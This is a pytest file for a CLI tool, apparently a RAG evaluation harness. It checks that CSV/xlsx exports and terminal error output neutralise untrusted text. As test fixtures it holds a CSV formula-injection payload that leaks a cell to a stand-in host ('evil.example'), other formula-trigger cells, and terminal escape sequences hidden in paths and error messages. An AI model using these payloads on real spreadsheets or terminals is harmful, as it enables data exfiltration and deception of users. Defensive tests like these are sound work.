"""Text ragdive does not control (a target's answer, a corpus file's name, a crash message) is safe where it goes:
CSV cells never become live formulas, xlsx takes any control character, and the terminal shows escape sequences
instead of obeying them, on every error path."""

from __future__ import annotations

import csv
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from ragdive.cli.main import main
from ragdive.records import Conversation
from ragdive.safe_text import csv_safe, terminal_safe, visible_controls
from ragdive.store import RunStore
from tests.factories import make_conversation

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
OSC_TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"


def hostile_run(tmp_path: Path) -> RunStore:
    store = RunStore.create(tmp_path, run_id="hostile")
    conversations = []
    for n, answer in enumerate((HOSTILE, "+1 reasons", "-0.5", "@SUM(A1:A9)", "page one\x0cpage two")):
        conversation = make_conversation(f"c{n}", turns=1, index=n)
        turn = conversation.turns[0].model_copy(update={"answer": answer})
        conversations.append(Conversation.model_validate({**conversation.model_dump(), "turns": [turn.model_dump()]}))
    store.append_conversations(conversations)
    return store


def answers_in(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [row["answer"] for row in csv.DictReader(fh)]


def test_csv_cells_that_start_a_formula_are_text_and_raw_csv_opts_out(tmp_path: Path) -> None:
    store = hostile_run(tmp_path)
    assert main(["export", str(store.path), "-o", str(tmp_path / "safe")]) == 0
    safe = answers_in(tmp_path / "safe" / "turns.csv")
    assert safe[:4] == ["'" + HOSTILE, "'+1 reasons", "-0.5", "'@SUM(A1:A9)"]  # a number stays a number
    assert main(["export", str(store.path), "-o", str(tmp_path / "raw"), "--raw-csv"]) == 0
    assert answers_in(tmp_path / "raw" / "turns.csv")[0] == HOSTILE


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+1", "'=1+1"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1e3", "-1e3"), ("+7", "+7"), ("plain", "plain"), (3, 3)],
)
def test_the_owasp_rule(cell: object, written: object) -> None:
    assert csv_safe(cell) == written


def test_an_xlsx_sheet_takes_control_characters(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    store = hostile_run(tmp_path)
    sheet = tmp_path / "sheet.xlsx"
    assert main(["annotate", "export", str(store.path), "-o", str(sheet), "--sample", "5", "--raters", "1"]) == 0
    (written,) = tmp_path.glob("sheet*.xlsx")
    cells = [c.value for row in openpyxl.load_workbook(written).worksheets[0].iter_rows() for c in row]
    assert "page one\\x0cpage two" in cells  # shown, where openpyxl refused the raw form feed
    assert "'" + HOSTILE not in cells and HOSTILE in cells  # xlsx keeps text as text: no quote needed there


def test_escape_sequences_are_shown_not_obeyed() -> None:
    assert visible_controls(f"a{OSC_TITLE}b{CLEAR}") == "a\\x1b]0;pwned\\x07b\\x1b[2J\\x1b[H"
    assert terminal_safe("\x1b[1;31mred\x1b[0m\r") == "\x1b[1;31mred\x1b[0m\r"  # rich's own styling kept
    assert "\x1b]0" not in terminal_safe(OSC_TITLE) and "\x1b[2J" not in terminal_safe(CLEAR)


def _error_paths(tmp_path: Path) -> list[list[str]]:
    evil = tmp_path / f"corpus{OSC_TITLE}{CLEAR}"
    config = tmp_path / "experiment.yaml"
    config.write_text(f"corpus: {{path: {json.dumps(str(evil))}}}\n")  # YAML's escapes: the file itself is text
    return [
        ["runs", "show", str(evil)],  # a StoreError quoting the path
        ["config", "check", str(config)],  # a problem line quoting the config's value
        ["report", str(evil)],
        ["export", str(evil), "-o", str(tmp_path / "out")],
    ]


def test_no_raw_escape_reaches_a_pipe_from_any_error_path(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k not in ("FORCE_COLOR", "TERM")}
    for debug in ((), ("--debug",)):
        for command in _error_paths(tmp_path):
            done = subprocess.run(
                [sys.executable, "-m", "ragdive", *debug, *command],
                capture_output=True,
                text=True,
                timeout=60,
                cwd=ROOT,
                env=env,
                check=False,
            )
            assert done.returncode == 2, (command, done.stderr)
            assert "\x1b" not in done.stdout + done.stderr and "\x07" not in done.stderr
            assert "\\x1b]0;pwned" in done.stderr  # shown, so the user sees what is there


def test_no_foreign_escape_reaches_a_terminal(tmp_path: Path) -> None:
    for command in _error_paths(tmp_path)[:2]:
        primary, secondary = pty.openpty()
        process = subprocess.Popen(
            [sys.executable, "-m", "ragdive", *command],
            stdin=secondary,
            stdout=secondary,
            stderr=secondary,
            cwd=ROOT,
            env={**os.environ, "TERM": "xterm-256color", "COLUMNS": "200"},
        )
        os.close(secondary)
        seen = b""
        while True:
            try:
                chunk = os.read(primary, 65536)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            seen += chunk
        process.wait(timeout=60)
        os.close(primary)
        text = seen.decode("utf-8", errors="replace")
        assert process.returncode == 2
        assert "\x1b]0;" not in text and "\x1b[2J" not in text and "\x07" not in text, text
        assert "\\x1b]0;pwned" in text


def test_a_bug_message_quoting_hostile_text_is_shown_safely(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    import ragdive.cli.runs as runs

    def crash(*args: object, **kwargs: object) -> None:
        raise RuntimeError(f"document said {OSC_TITLE}{CLEAR} [bold]not markup[/bold]")

    monkeypatch.setattr(runs, "list_runs", crash)
    tmp_path.mkdir(exist_ok=True)
    assert main(["runs", "list", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\\x1b]0;pwned\\x07" in err and "[bold]not markup[/bold]" in err
